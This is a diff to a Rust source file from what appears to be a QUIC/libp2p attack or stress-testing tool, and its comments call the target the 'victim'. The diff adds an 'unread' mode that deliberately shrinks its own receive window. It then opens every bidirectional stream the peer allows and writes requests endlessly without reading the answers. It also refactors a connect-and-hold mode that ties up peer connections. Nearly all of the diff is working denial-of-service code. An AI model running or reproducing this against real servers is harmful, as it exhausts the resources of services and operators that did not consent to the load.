@@ -12,14 +12,15 @@ use std::{
 
 use libp2p::identity::Keypair;
 use quinn_proto::{
-    ClientConfig, Connection, ConnectionHandle, DatagramEvent, Endpoint, EndpointConfig, Event,
-    crypto::rustls::QuicClientConfig,
+    ClientConfig, Connection, ConnectionHandle, DatagramEvent, Dir, Endpoint, EndpointConfig,
+    Event, StreamId, TransportConfig, WriteError, crypto::rustls::QuicClientConfig,
 };
 use tokio::{
     net::UdpSocket,
     time::{sleep, timeout},
 };
 
+use super::{HELLO, questions};
 use crate::{Target, tally::Tally};
 
 /// Connections of one machine, after which another one begins: it remembers each of them.
@@ -32,6 +33,9 @@ const PATIENCE: Duration = Duration::from_secs(10);
 /// address (RFC 9000, section 17.2.5).
 const PACKET_KIND: u8 = 0xf0;
 const RETRY: u8 = 0xf0;
+
+/// Answers that are taken of one stream before the victim has to wait until they are read.
+const ANSWER_BYTES_MAX: u32 = 1_024;
 
 /// Largest packet that is read.
 const PACKET_BYTES_MAX: usize = 1_500;
@@ -77,12 +81,56 @@ pub(super) async fn half(target: &Target, number: usize, tally: &Arc<Tally>) -> 
 
 /// Becomes a connected stranger with a new key, opens nothing, and holds on until the victim lets go.
 pub(super) async fn join(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
-    let (mut caller, socket) = (Caller::new(target)?, socket(target, number).await?);
+    hold(Caller::new(target)?, target, number, tally, |_| ()).await
+}
+
+/// Asks on as many streams as there may be, without end, and reads no answer.
+pub(super) async fn unread(target: &Target, number: usize, tally: &Arc<Tally>) -> io::Result<()> {
+    let mut caller = Caller::new(target)?;
+    let mut windows = TransportConfig::default();
+    windows.stream_receive_window(ANSWER_BYTES_MAX.into());
+    caller.settings.transport_config(Arc::new(windows));
+    let asked = [HELLO, &questions()].concat();
+    let mut streams = Vec::new();
+    let ask = |connection: &mut Connection| {
+        while let Some(stream) = connection.streams().open(Dir::Bi) {
+            tally.opened();
+            streams.push((stream, 0));
+        }
+        streams.retain_mut(|(stream, sent): &mut (StreamId, usize)| {
+            loop {
+                match connection.send_stream(*stream).write(&asked[*sent..]) {
+                    Ok(count) if *sent + count == asked.len() => *sent = HELLO.len(),
+                    Ok(count) => *sent += count,
+                    Err(WriteError::Blocked) => break true,
+                    Err(_) => {
+                        tally.ended();
+                        break false;
+                    }
+                }
+            }
+        });
+    };
+    hold(caller, target, number, tally, ask).await
+}
+
+/// Connects, does something whenever there is a turn, and holds on until the victim lets go.
+async fn hold(
+    mut caller: Caller,
+    target: &Target,
+    number: usize,
+    tally: &Tally,
+    mut turn: impl FnMut(&mut Connection),
+) -> io::Result<()> {
+    let socket = socket(target, number).await?;
     tally.tried();
     let (handle, mut connection) = caller.begin()?;
     let mut bytes = [0; PACKET_BYTES_MAX];
     let mut is_connected = false;
     loop {
+        if is_connected {
+            turn(&mut connection);
+        }
         tally.sent(send(&mut connection, &socket).await?);
         while let Some(event) = connection.poll() {
             match event {
